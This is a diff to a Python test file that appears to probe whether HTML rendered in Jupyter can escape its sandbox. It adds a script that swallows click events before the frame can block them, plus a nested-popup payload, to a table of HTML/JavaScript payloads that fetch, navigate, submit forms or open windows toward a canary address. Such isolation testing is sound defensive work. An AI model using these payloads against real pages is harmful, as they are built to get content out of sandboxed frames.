@@ -26,6 +26,8 @@ from .lab import TOKEN, Lab, running_lab
 
 T = TypeVar("T")
 
+# Before the frame's own script could refuse it.
+QUIET = "<script>addEventListener('click', e => e.stopImmediatePropagation(), true)</script>"
 # {C} is the canary's address, {J} Jupyter's, {N} the attack's name; `say` reports to the page around.
 ATTACKS = {
     "fetch": "<script>fetch('{C}/{N}').catch(() => 0); fetch('{C}/{N}', {{mode: 'no-cors', keepalive: true}})</script>",
@@ -54,13 +56,14 @@ ATTACKS = {
     "meta-refresh": "<meta http-equiv=refresh content='0;url={C}/{N}'>",
     "base": "<base href='{C}/'><img src='{N}'><script src='{N}'></script>",
     "own-navigation": "<script>location = '{C}/{N}'; location.replace('{C}/{N}')</script>",
-    "link": "<a id=l href='{C}/{N}' ping='{C}/{N}'>x</a><script>l.click()</script>",
-    "download": "<a id=l href='{C}/{N}' download>x</a><script>l.click()</script>",
-    "blank-link": "<a id=l href='{C}/{N}' target=_blank rel=opener>x</a><script>l.click()</script>",
+    "link": QUIET + "<a id=l href='{C}/{N}' ping='{C}/{N}'>x</a><script>l.click()</script>",
+    "download": QUIET + "<a id=l href='{C}/{N}' download>x</a><script>l.click()</script>",
+    "blank-link": QUIET + "<a id=l href='{C}/{N}' target=_blank rel=opener>x</a><script>l.click()</script>",
     "popup": "<script>say(String(window.open('{C}/{N}')))</script>",
+    "nested-popup": "<iframe srcdoc=\"<script>open('{C}/{N}'); open('{C}/{N}', '_top')</script>\"></iframe>",
     "top": "<script>try {{ top.location = '{C}/{N}' }} catch (e) {{ say('blocked') }}</script>",
     "parent": "<script>try {{ parent.location = '{C}/{N}' }} catch (e) {{ say('blocked') }}</script>",
-    "top-link": "<a id=l href='{C}/{N}' target=_top>x</a><script>l.click()</script>",
+    "top-link": QUIET + "<a id=l href='{C}/{N}' target=_top>x</a><script>l.click()</script>",
     "form": "<form id=f method=post action='{C}/{N}'><input name=x value=y></form><script>f.submit()</script>",
     "form-top": "<form id=f target=_top action='{C}/{N}'></form><script>f.submit()</script>",
     "frame": "<iframe src='{C}/{N}'></iframe><object data='{C}/{N}'></object><embed src='{C}/{N}'>",
@@ -153,7 +156,7 @@ def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
 
 # Pages that do with themselves what they are told: `data` is the attack.
 INSERT = (
-    "window.say = text => console.log('SAID ' + text); addEventListener('message', ({ data }) => "
+    "window.say = text => console.log('SAID ' + text); window.addEventListener('message', ({ data }) => "
     "document.body.append(document.createRange().createContextualFragment(data))); console.log('READY')"
 )
 ATTACKERS = {
